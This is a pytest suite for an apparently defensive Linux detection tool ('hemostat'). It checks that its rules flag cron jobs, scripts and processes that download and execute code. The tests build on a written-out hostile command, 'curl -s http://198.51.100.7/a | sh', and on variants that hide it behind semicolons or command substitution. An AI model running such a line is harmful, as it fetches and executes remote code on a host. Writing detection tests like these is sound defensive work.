import os
import subprocess
import sys
import tarfile
import zipfile
from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest

from hemostat.detect.check import HostContext, claims_of
from hemostat.detect.checks.protection_stopped import disables_protection
from hemostat.detect.rulebook import (
    PLAN_NAME,
    Rulebook,
    claim_about,
    failed_examples,
    load_texts,
    own_plans,
    own_texts,
    read_plan,
    write_plan,
)
from hemostat.detect.sigma.plan import RulePlan, Words
from hemostat.examine.knowledge import shipped_knowledge
from hemostat.model.errors import InternalError
from hemostat.model.evidence import Source
from hemostat.model.finding import Observable
from hemostat.model.host import Scope
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.record_set import RecordSet
from hemostat.model.records import Account, Mechanism, Process, ScriptLine, Startup

SAMPLES = Path(os.environ.get("HEMOSTAT_SIGMA_RULES", "not-named"))
FIXTURES = Path(__file__).parents[1] / "fixtures" / "commands"
OWN = own_plans()
OWN_IDS = [plan.info.name for plan in OWN]
DOWNLOAD = "curl -s http://198.51.100.7/a | sh"


def commands(kind: str) -> list[str]:
    lines = (FIXTURES / f"{kind}.txt").read_text("utf-8").splitlines()
    return [line for line in lines if not line.startswith("# ")]


@pytest.fixture(scope="module")
def book() -> Rulebook:
    return Rulebook.of(OWN)


def names(book: Rulebook, record: object) -> set[str]:
    return {info.name for info, _ in book.claims([record])}


def startup(command: str, **fields: object) -> Startup:
    place = HostPath("/etc/cron.d/x")
    return Startup(mechanism=Mechanism.CRON, technique="T1053.003", place=place, command=command)


@pytest.mark.requirement("A4.13", "B5.4")
def test_a_job_that_downloads_and_runs_is_named_with_its_mechanism(book: Rulebook) -> None:
    claims = list(book.claims([startup(DOWNLOAD)]))
    assert [info.name for info, _ in claims] == ["linux.command.download-and-run"]
    claim = claims[0][1]
    assert claim.subjects[0].kind == "cron_job"
    assert claim.attack == ("T1053.003",)
    assert Observable("ipv4-addr", "198.51.100.7") in claim.observables
    assert claim.values["command"] == DOWNLOAD


def test_scripts_and_processes_are_commands_too(book: Rulebook) -> None:
    name = "linux.command.download-and-run"
    assert name in names(book, ScriptLine(path=HostPath("/opt/s"), command=DOWNLOAD))
    assert name in names(book, Process(pid=7, command=f"sh -c {DOWNLOAD}"))
    assert names(book, Account(name=DOWNLOAD, uid=0)) == set()


@pytest.mark.parametrize(
    "line", [f"# {DOWNLOAD}", f'echo "Install it with: {DOWNLOAD}"', f"printf '{DOWNLOAD}'"]
)
def test_a_line_that_only_comments_or_prints_is_no_command(book: Rulebook, line: str) -> None:
    assert names(book, ScriptLine(path=HostPath("/opt/s"), command=line)) == set()
    assert names(book, startup(line)) == set()


@pytest.mark.parametrize(
    "line",
    [
        f'echo "x" | sh; {DOWNLOAD}',
        f'echo "$({DOWNLOAD})"',
        f"# x\n{DOWNLOAD}",
        f"#\\\n;{DOWNLOAD}",
    ],
)
def test_a_line_that_does_more_than_print_is_a_command(book: Rulebook, line: str) -> None:
    assert names(book, ScriptLine(path=HostPath("/opt/s"), command=line))


def test_a_process_is_never_taken_for_a_comment(book: Rulebook) -> None:
    assert names(book, Process(pid=7, command=f"# {DOWNLOAD}"))


def test_a_container_stays_in_the_claim() -> None:
    scope = Scope("container", "abc")
    assert claim_about(Process(pid=1, scope=scope)).scope == scope


def test_two_rules_of_one_name_are_a_problem_of_the_later() -> None:
    text = own_texts()[0][1]
    loaded = load_texts([("a.yml", text), ("b.yml", text)])
    assert len(loaded.plans) == 1
    assert [problem.path for problem in loaded.problems] == ["b.yml"]
    assert "a.yml" in loaded.problems[0].reason


def test_no_texts_need_no_pysigma() -> None:
    code = (
        "import sys; from hemostat.detect.rulebook import load_texts, read_plan, Rulebook;"
        "load_texts([]); Rulebook.of(read_plan(sys.stdin.buffer.read()));"
        "print('sigma' in sys.modules)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        input=write_plan(OWN),
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2] / "src")},
        capture_output=True,
        check=True,
    )
    assert done.stdout.strip() == b"False"


def test_the_plan_is_what_a_fresh_compile_gives() -> None:
    fresh = load_texts(own_texts())
    assert fresh.problems == ()
    assert read_plan(write_plan(fresh.plans)) == fresh.plans == OWN
    assert write_plan(fresh.plans) == write_plan(load_texts(own_texts()).plans)


def test_the_wheel_carries_the_plan(tmp_path: Path) -> None:
    pytest.importorskip("hatchling")
    root = Path(__file__).parents[2]
    subprocess.run(
        [sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", str(tmp_path)],
        cwd=root,
        check=True,
        capture_output=True,
    )
    with zipfile.ZipFile(next(tmp_path.glob("*.whl"))) as wheel:
        assert read_plan(wheel.read(f"hemostat/data/rules/{PLAN_NAME}")) == OWN


@pytest.mark.parametrize(
    "data", [b"", b"{}", b'{"format":0,"rules":[]}', b'{"format":1,"rules":[{}]}']
)
def test_a_damaged_plan_is_our_own_fault(data: bytes) -> None:
    with pytest.raises(InternalError, match="reinstall"):
        read_plan(data)


def test_every_example_of_our_rules_holds() -> None:
    assert failed_examples(OWN) == ()


def test_an_example_that_does_not_hold_is_found() -> None:
    plan = replace(OWN[0], tree=Words("command", "equals", "nothing like it"))
    assert len(failed_examples([plan])) == len(plan.fires)


@pytest.mark.parametrize("plan", OWN, ids=OWN_IDS)
def test_our_rules_are_complete(plan: RulePlan) -> None:
    info = plan.info
    assert len(plan.fires) >= 2
    assert len(plan.quiet) >= 3
    assert info.name.startswith("linux.")
    assert info.attack
    assert info.incident_types
    assert info.by_hand
    for text in (info.texts.title, info.texts.summary, info.texts.benign):
        assert text.en != text.zh
        assert any("\u4e00" <= letter <= "\u9fff" for letter in text.zh)
    assert {"{where}"} <= set(info.texts.summary.en.split())


def test_our_rules_name_only_advice_and_incident_types_that_exist() -> None:
    knowledge = shipped_knowledge()
    advice = {slug for plan in OWN for slug in plan.info.next}
    types = {slug for plan in OWN for slug in plan.info.incident_types}
    assert advice <= set(knowledge.advice)
    assert types <= set(knowledge.incident_types)


def test_what_one_rule_calls_ordinary_no_other_calls_worth_a_look(book: Rulebook) -> None:
    loud = [
        (other.info.name, dict(example))
        for rule in book.rules
        for other in book.rules
        if other.plan.category == rule.plan.category and other.info.level >= Level.MEDIUM
        for example in rule.plan.quiet
        if failed_examples([replace(other.plan, fires=(), quiet=(example,))])
    ]
    assert loud == []


def stopped(*records: object) -> list[str]:
    """The one check on commands that a single record does not decide, once for each claim."""
    claims = claims_of(disables_protection, RecordSet(records).of, HostContext())
    return [disables_protection.info.name for _ in claims]


@pytest.mark.parametrize("command", commands("ordinary"))
def test_ordinary_commands_are_nothing_above_low(book: Rulebook, command: str) -> None:
    records = (
        startup(command),
        ScriptLine(path=HostPath("/opt/s"), command=command),
        Process(pid=7, command=command, exe=HostPath("/bin/sh"), exe_state="packaged"),
    )
    loud = [info.name for info, _ in book.claims(records) if info.level > Level.LOW]
    assert loud + stopped(*records) == []


@pytest.mark.requirement("A4.13", "B5.4", "B5.3")
@pytest.mark.parametrize("command", commands("hostile"))
def test_hostile_commands_are_worth_a_look_at_least(book: Rulebook, command: str) -> None:
    levels = [info.level for info, _ in book.claims([startup(command)])]
    if stopped(startup(command)):
        levels.append(disables_protection.info.level)
    assert max(levels, default=Level.INFO) >= Level.MEDIUM


@pytest.mark.skipif(
    not SAMPLES.exists(), reason="HEMOSTAT_SIGMA_RULES names no archive of the SigmaHQ rules"
)
def test_linux_rules_of_sigmahq_load_or_say_why_not() -> None:
    with tarfile.open(SAMPLES) as archive:
        texts = [
            (member.name, file.read().decode())
            for member in archive
            if member.name.endswith(".yml") and (file := archive.extractfile(member))
        ]
    linux = [each for each in texts if "product: linux" in each[1]]
    loaded = load_texts(linux)
    assert len(linux) == 248
    assert len(loaded.plans) == 135
    kinds = Counter(problem.reason.split(":")[0].split(";")[0] for problem in loaded.problems)
    assert kinds == {
        "log source service `auditd`": 54,
        "log source category `file_event`": 18,
        "log source without a category": 16,
        "field `ParentCommandLine` is not recorded": 8,
        "field `DestinationHostname` is not recorded": 3,
        "log source service `sshd`": 3,
        "field `LogonId` is not recorded": 2,
        "log source service `syslog`": 2,
        "field `Initiated` is not recorded": 1,
        "log source service `auth`": 1,
        "log source service `clamav`": 1,
        "log source service `cron`": 1,
        "log source service `guacamole`": 1,
        "log source service `sudo`": 1,
        "log source service `vsftpd`": 1,
    }
    process = Process(pid=7, exe=HostPath("/usr/bin/base64"), command="base64 -d")
    assert any(True for _ in Rulebook.of(loaded.plans).claims([process]))


def test_evidence_and_line_are_named(book: Rulebook) -> None:
    line = ScriptLine(
        path=HostPath("/opt/s"), source=Source(path=HostPath("/opt/s"), line=9), command=DOWNLOAD
    )
    claim = next(claim for _, claim in book.claims([line]))
    assert claim.values["where"] == "/opt/s:9"
    assert claim.because == (line,)
